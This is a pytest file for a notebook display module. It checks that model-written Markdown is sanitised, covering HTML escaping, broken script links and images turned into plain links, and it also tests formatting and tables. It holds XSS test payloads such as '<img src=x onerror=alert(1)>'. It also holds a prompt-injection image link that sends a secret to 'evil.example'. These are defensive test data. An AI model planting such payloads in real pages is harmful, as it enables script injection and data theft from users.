"""Tests of orq_notebook.display._render: escaping, safe Markdown, formatting, tables."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings, strategies as st

from orq_notebook.display._answer import answer_markdown
from orq_notebook.display._render import (
    Markup,
    Table,
    escape_html,
    escape_markdown,
    format_duration,
    format_tokens,
    format_usage,
    highlight_variables,
    mimebundle,
    safe_markdown,
    shorten,
)
from orq_notebook.display._theme import MUTED_SMALL as SMALL

# ---------------------------------------------------------------------------------------------
# safe_markdown: model text keeps its formatting but brings no HTML of its own


def test_raw_html_outside_code_is_escaped() -> None:
    out = safe_markdown("Hi <script>alert(1)</script> and <img src=x onerror=alert(1)>")
    assert "<script" not in out and "<img" not in out
    assert "&lt;script>alert(1)&lt;/script>" in out


def test_markdown_formatting_is_kept() -> None:
    text = "# Title\n\n- **bold** item\n- [a link](https://orq.ai)\n\n> quoted"
    assert safe_markdown(text) == text


def test_fenced_code_is_left_verbatim() -> None:
    text = "Look:\n\n```html\n<b>a & b</b>\n```\n\n~~~\nx < y\n~~~"
    assert safe_markdown(text) == text


def test_an_unclosed_fence_is_closed_so_what_follows_stays_outside() -> None:
    out = safe_markdown("```python\nprint('<hi>')")
    assert out == "```python\nprint('<hi>')\n```"
    assert safe_markdown("  ~~~~\n  x").endswith("\n  ~~~~")


def test_a_backtick_fence_with_a_backtick_in_its_info_string_is_not_a_fence() -> None:
    assert safe_markdown("``` a`b\n<i>x</i>") == "``` a`b  \n&lt;i>x&lt;/i>"


def test_a_line_left_of_a_list_items_fence_ends_the_fence() -> None:
    # In Markdown the dedented line ends the list item and the fence with it.
    out = safe_markdown("- item\n  ```\n  <b>code</b>\n<img src=x onerror=alert(1)>")
    assert out == "- item\n  ```\n  <b>code</b>\n  ```\n&lt;img src=x onerror=alert(1)>"
    # At top level the same close is harmless: the code simply ends a line earlier.
    assert safe_markdown("  ```\n  a\nb <i>") == "  ```\n  a\n  ```\nb &lt;i>"


def test_a_fence_indented_four_spaces_is_not_trusted() -> None:
    out = safe_markdown("text\n    ```\n    <img src=x onerror=alert(1)>")
    assert "<img" not in out


def test_inline_code_without_html_characters_is_kept() -> None:
    assert safe_markdown("call `f(x)` now") == "call `f(x)` now"


def test_inline_code_with_html_characters_becomes_escaped_code_html() -> None:
    out = safe_markdown("use `a < b && *c*` here")
    assert out == r"use <code>a &lt; b &amp;&amp; \*c\*</code> here"


def test_character_references_cannot_smuggle_markup_or_schemes() -> None:
    out = safe_markdown("[x](&#106;avascript:alert(1)) &lt;b&gt; and AT&T")
    assert "&amp;#106;" in out and "&amp;lt;b&amp;gt;" in out
    assert "AT&T" in out  # a bare ampersand is not a reference: left alone


def test_images_become_plain_links() -> None:
    # An image loads by itself: a prompt-injected one can send data to any server.
    assert safe_markdown("![chart](https://evil.example/?q=secret)") == (
        r"\![chart](https://evil.example/?q=secret)"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x]( JavaScript:alert(1))",
        "[x](\nvbscript:msgbox)",
        "[x](data:text/html,hi)",
        "[x]: javascript:alert(1)\n\n[x]",
    ],
)
def test_script_links_are_broken(text: str) -> None:
    html = _render(safe_markdown(text))
    assert 'href="javascript' not in html.lower()
    assert "href=" not in html


def test_safe_links_still_work() -> None:
    assert 'href="https://orq.ai"' in _render(safe_markdown("[orq](https://orq.ai)"))


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


_HARMLESS = {
    "p", "code", "pre", "em", "strong", "a", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "del", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


def _render(markdown: str) -> str:
    mistune = pytest.importorskip("mistune")
    render = mistune.create_markdown(escape=False, plugins=["strikethrough", "table"])
    html: str = render(markdown)
    return html


_PIECES = st.sampled_from(
    [
        "<", ">", "&", "#106;", "`", "``", "```", "~~~", "\n", "\n\n", "  ", "    ", "- ", "1. ",
        "> ", "|", "![x](", "[x](", "]", ")", "javascript:", "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>", "<!-- c -->", "<https://a.b>", "a", "b c", "*", "_", "\\",
        "$", "[r]: ", "---",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=30).map("".join))
def test_no_model_text_renders_to_a_tag_or_script_link(text: str) -> None:
    """Through a real Markdown renderer, whatever the model wrote yields only harmless tags."""
    parser = _Tags()
    parser.feed(_render(safe_markdown(text)))
    for tag, attrs in parser.tags:
        assert tag in _HARMLESS, (tag, text)
        for name, value in attrs:
            assert name in {"href", "class", "title", "start", "align", "style"}, (name, text)
            assert not (value or "").strip().lower().startswith(("javascript", "vbscript", "data"))


# ---------------------------------------------------------------------------------------------
# Escaping of short values


def test_escape_html() -> None:
    assert escape_html("""<a href="x">'&'</a>""") == (
        "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;&#x27;&lt;/a&gt;"
    )


def test_escape_markdown_shows_text_literally() -> None:
    assert escape_markdown("a*b*_c_ [x](y) `z` | $5 <i> &amp;") == (
        r"a\*b\*\_c\_ \[x\](y) \`z\` \| \$5 &lt;i> &amp;amp;"
    )


def test_escape_markdown_escapes_line_starts_and_keeps_lines() -> None:
    out = escape_markdown("# not a heading\n1. not a list\n  - indented\n> no quote")
    assert out == (
        "\\# not a heading  \n1\\. not a list  \n&#160;&#160;\\- indented  \n\\> no quote"
    )


def test_escape_markdown_inline() -> None:
    assert escape_markdown("1. a\nb", newline=" ", block=False) == "1. a b"
    assert escape_markdown("a|b\nc", newline="<br>", block=False) == r"a\|b<br>c"
    rendered = _render(escape_markdown("# x\n* y <b>z</b>\n    code?"))
    assert "<h1>" not in rendered and "<li>" not in rendered and "<pre>" not in rendered
    assert "<b>" not in rendered


# ---------------------------------------------------------------------------------------------
# Formatting


@pytest.mark.parametrize(
    ("seconds", "shown"),
    [
        (None, "—"),
        (0.0002, "<1 ms"),
        (0.312, "312 ms"),
        (1.237, "1.24 s"),
        (12.34, "12.3 s"),
        (75.2, "1 min 15 s"),
    ],
)
def test_format_duration(seconds: float | None, shown: str) -> None:
    assert format_duration(seconds) == shown


def test_format_tokens_and_usage() -> None:
    assert format_tokens(1) == "1 token"
    assert format_tokens(12345.0) == "12,345 tokens"
    assert format_tokens(None) == "—"
    assert format_usage({"total_tokens": 57, "prompt_tokens": 12, "completion_tokens": 45}) == (
        "57 tokens (12 in, 45 out)"
    )
    assert format_usage({"prompt_tokens": 2, "completion_tokens": 3}) == "5 tokens (2 in, 3 out)"
    assert format_usage({"total_tokens": 9}) == "9 tokens"
    assert format_usage(None) == "" and format_usage({}) == ""


def test_shorten() -> None:
    assert shorten("a\n  b\tc", 10) == "a b c"
    assert shorten("abcdefghij", 5) == "abcd…"


# ---------------------------------------------------------------------------------------------
# Variables in prompts


def test_highlight_variables() -> None:
    shown = highlight_variables("You answer for {{company}} <b>.\n  Be {{ tone }}, not {x}.")
    assert shown.text == "You answer for {{company}} <b>.\n  Be {{ tone }}, not {x}."
    assert shown.html.count("<mark ") == 2
    assert ">{{company}}</mark> &lt;b&gt;." in shown.html
    assert "{x}" in shown.html and "<b>" not in shown.html
    assert shown.markdown == (
        "You answer for `{{company}}` &lt;b>.  \n&#160;&#160;Be `{{tone}}`, not {x}."
    )
    assert "{{{{" not in highlight_variables("{{{x}}}").markdown  # not a variable


def test_markup_mimebundle() -> None:
    m = Markup(text="t", html="<b>t</b>", markdown="**t**")
    assert m._repr_mimebundle_() == {
        "text/plain": "t",
        "text/html": "<b>t</b>",
        "text/markdown": "**t**",
    }
    assert m._repr_mimebundle_(exclude=["text/html"]) == {
        "text/plain": "t",
        "text/markdown": "**t**",
    }
    assert str(m) == "t"


def test_mimebundle_renders_only_what_is_asked() -> None:
    calls: list[str] = []

    def render(name: str) -> str:
        calls.append(name)
        return name

    renderers = {m: (lambda m=m: render(m)) for m in ("text/plain", "text/html", "text/markdown")}
    assert mimebundle(renderers, default=["text/plain"]) == {"text/plain": "text/plain"}
    assert calls == ["text/plain"]
    assert set(mimebundle(renderers, default=["text/plain"], include=["text/html"])) == {
        "text/html"
    }
    assert set(mimebundle(renderers, exclude={"text/plain"})) == {"text/html", "text/markdown"}


# ---------------------------------------------------------------------------------------------
# Table


def _table() -> Table:
    return Table(
        [
            {"key": "support-answer", "model": "gpt-4o-mini", "version": "v3"},
            {"key": "a|b <script>", "notes": "line 1\nline 2", "model": None},
        ],
        title="Deployments",
        footer="2 of 2 shown",
    )


def test_table_text_is_aligned() -> None:
    assert _table().to_text() == (
        "Deployments\n"
        "key             model        version  notes\n"
        "--------------  -----------  -------  -------------\n"
        "support-answer  gpt-4o-mini  v3\n"
        "a|b <script>                          line 1 line 2\n"
        "2 of 2 shown"
    )


def test_table_text_cuts_long_cells() -> None:
    text = Table([{"a": "x" * 100}], max_width=10).to_text()
    assert "xxxxxxxxx…" in text and "x" * 11 not in text


def test_table_html_is_escaped_and_self_contained() -> None:
    html = _table().to_html()
    assert "&lt;script&gt;" in html and "<script>" not in html
    assert html.count("<tr ") == 3 and html.count("<th ") == 4
    assert "Deployments" in html and "2 of 2 shown" in html
    assert "<link" not in html and "<style" not in html and "#fff" not in html


def test_table_markdown() -> None:
    md = _table().to_markdown()
    assert "| key | model | version | notes |" in md
    assert r"| a\|b &lt;script> |  |  | line 1<br>line 2 |" in md
    assert md.startswith("**Deployments**") and md.endswith(f"{SMALL}2 of 2 shown</small>")


def test_table_markup_cells_keep_their_html_and_markdown() -> None:
    table = Table([{"prompt": highlight_variables("Hi {{name}}\nbye")}])
    assert "<mark " in table.to_html()
    assert "| Hi `{{name}}`<br>bye |" in table.to_markdown()
    assert "Hi {{name}} bye" in table.to_text()


def test_empty_table() -> None:
    table = Table([], columns=["key"], empty="No deployments yet.")
    assert table.to_text() == "No deployments yet."
    assert "No deployments yet." in table.to_html()
    assert table.to_markdown() == "*No deployments yet.*"
    assert len(table) == 0


def test_table_mimebundle_and_repr() -> None:
    table = _table()
    assert set(table._repr_mimebundle_()) == {"text/plain", "text/html", "text/markdown"}
    assert set(table._repr_mimebundle_(include=["text/plain"])) == {"text/plain"}
    assert repr(table) == "<Table 'Deployments': 2 rows × 4 columns>"
    assert Table([{"b": 1}, {"a": 2}]).columns == ["b", "a"]
    assert Table([{"b": 1, "a": 2}], columns=["a"]).to_text().splitlines()[0] == "a"


# ---------------------------------------------------------------------------------------------
# Line breaks and JSON answers


def test_single_line_breaks_are_kept_as_hard_breaks() -> None:
    html = _render(safe_markdown("system: Translate.\nuser: Where is the station?"))
    assert "system: Translate.<br" in html and "<p>system" in html


def test_line_breaks_leave_lists_headings_and_tables_alone() -> None:
    text = "# Title\n- a\n- b\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    assert safe_markdown(text) == text
    html = _render(safe_markdown(text))
    assert "<br" not in html and "<table>" in html and html.count("<li>") == 2


def test_a_json_answer_becomes_a_highlighted_code_block() -> None:
    answer = '{"name": "Ann Lee", "email": "ann@example.com"}'
    md = answer_markdown(answer)
    assert md.startswith('```json\n{\n  "name": "Ann Lee",')
    html = _render(md)
    assert "<pre><code" in html and "mailto:" not in html and "<a " not in html


def test_json_keeps_its_own_lines_and_partial_json_is_still_code() -> None:
    pretty = '[\n {"a": 1}\n]'
    assert answer_markdown(pretty) == f"```json\n{pretty}\n```"
    assert answer_markdown('{"name": "An').startswith('```json\n{"name": "An')
    assert answer_markdown("[1] a citation, not JSON").startswith("[1]")
    assert answer_markdown("{name} is a placeholder").startswith("{name}")


def test_json_with_backtick_fences_inside_gets_a_longer_fence() -> None:
    md = answer_markdown('{"code": "```x```"}')
    assert md.startswith("````json\n") and md.endswith("\n````")


def test_table_nowrap_columns_and_left_aligned_markdown() -> None:
    table = Table([{"key": "support-answer", "note": "a b"}], nowrap=["key"])
    html = table.to_html()
    assert html.count("white-space:nowrap") == 1  # its one cell (headers wrap at spaces)
    assert "text-align:right" not in html
    assert "background:none" in html  # no inherited zebra stripes
    assert "| :--- | :--- |" in table.to_markdown()


def test_plain_text_is_the_words_a_reader_sees() -> None:
    from orq_notebook.display._answer import plain_text

    markdown = "# Title\n\nA **bold** and *soft* [link](https://x.y) with `code`.\n- item\n> quote"
    assert plain_text(markdown) == "Title A bold and soft link with code. item quote"
    assert plain_text("snake_case_name and a*b*c") == "snake_case_name and a*b*c"
    assert plain_text("```python\nx = 1\n```") == "x = 1"
